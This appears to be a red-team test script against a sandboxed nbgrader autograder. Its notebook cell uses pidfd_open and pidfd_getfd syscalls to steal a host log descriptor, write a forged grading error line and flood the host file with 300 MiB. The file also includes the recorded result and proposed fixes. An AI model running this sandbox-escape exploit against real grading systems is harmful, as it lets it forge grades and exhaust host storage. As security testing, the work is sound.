# a07 (root, ps1_memory): the grader's per-submission log (/tmp/grade-kernel-*/nbgrader.log on the HOST, outside
# every sandbox) is meant to get the kernel's output only through its launcher, each line labelled "sandbox
# output: " and only the first 64 kB (round 2's fix; grading_report.json's reason never reads a labelled line).
# But bwrap's pid 1 and the placeholder (pid 2) of the kernel's own sandbox hold that log, raw, as their fd 2
# (a06), and both are the kernel's uid and dumpable. pidfd_open + pidfd_getfd (syscalls 434/438: not in the seccomp
# deny list, although they are ptrace-class like process_vm_* and ptrace, which are) copy that descriptor into
# the kernel. The kernel then writes a forged, unlabelled error line and 300 MiB straight into the host file.
# A host-side sampler watches every /tmp/grade-kernel-*/nbgrader.log (size, forged line present).
# RESULT: see the end of this file.
import glob, os, sys, threading, time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

CELL = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
for pid in (2, 1):
    pidfd = libc.syscall(434, pid, 0)                     # pidfd_open
    fd = libc.syscall(438, pidfd, 2, 0) if pidfd >= 0 else -1   # pidfd_getfd(pidfd, 2, 0)
    print("pid", pid, "pidfd", pidfd, "stolen fd", fd, "errno", ctypes.get_errno(),
          os.readlink(f"/proc/self/fd/{fd}") if fd >= 0 else "")
    if fd >= 0:
        break
os.write(fd, b"nbgrader.AutogradeError: FORGED-R7 reason, written straight into the grader's log by the kernel\n")
chunk = (b"R7-FILL " * 131072)[:1 << 20]
n = 0
try:
    for n in range(300):
        os.write(fd, chunk)
    n += 1
except OSError as e:
    print("stopped:", e)
print("wrote", n, "MiB through the stolen descriptor")
'''
students = {"logger": ac.notebook(append={"training_memory": CELL})}
dest = ac.make_course("r7-a07", students)
seen, stop = {}, []

def watch():
    while not stop:
        for path in glob.glob("/tmp/grade-kernel-*/nbgrader.log"):
            try:
                size = os.path.getsize(path)
                with open(path, "rb") as fh:
                    head = fh.read(1 << 20)
                forged = b"FORGED-R7" in head or b"FORGED-R7" in open(path, "rb").read()[-(1 << 20):] if size < (400 << 20) else None
                seen[path] = max(seen.get(path, (0, False))[0], size), (forged or seen.get(path, (0, False))[1])
            except OSError:
                pass
        time.sleep(0.5)

t = threading.Thread(target=watch, daemon=True); t.start()
grade_watched(dest)
stop.append(1); t.join()
for path, (size, forged) in seen.items():
    print(f"host file {path}: peak {size / 2**20:.1f} MiB, forged line seen: {forged}")
os.system(f"""python3 -c "import json;nb=json.load(open('{dest}/autograded/logger/ps1_memory/ps1_memory.ipynb'));[print(''.join(o.get('text','')) or o.get('evalue')) for c in nb['cells'] if c['metadata'].get('nbgrader',{{}}).get('grade_id')=='training_memory' for o in c.get('outputs',[])]" """)
# RESULT (root, 09:32 UTC, /tmp/attack-course-r7-a07, a07_pidfd_getfd_grader_log.out.txt): BROKEN (round 2's fix
# bypassed). In the kernel: pidfd_open(2) = 20, pidfd_getfd(20, 2) = 64 -> /tmp/grade-kernel-3k29p119/nbgrader.log.
# The host-side watcher saw that host file reach 300.0 MiB with the unlabelled "nbgrader.AutogradeError: FORGED-R7"
# line in it ("wrote 300 MiB through the stolen descriptor"; RLIMIT_FSIZE's 512 MiB is the only cap). The grader's
# promise: what a kernel writes reaches that log only through its launcher, labelled, first 64 kB. (The watcher
# also listed the other tester's /tmp/grade-kernel-* logs: sizes only, nothing written or kept.)
# Fix direction: add pidfd_getfd (438) (and pidfd_open 434, kcmp 312, process_madvise 440) to the deny list, and
# give bwrap and the placeholder /dev/null (or the forwarder) as fd 2 instead of the grader's log; make pid 1 and
# the placeholder non-dumpable (or another uid) so /proc/<pid>/mem of them is closed too.
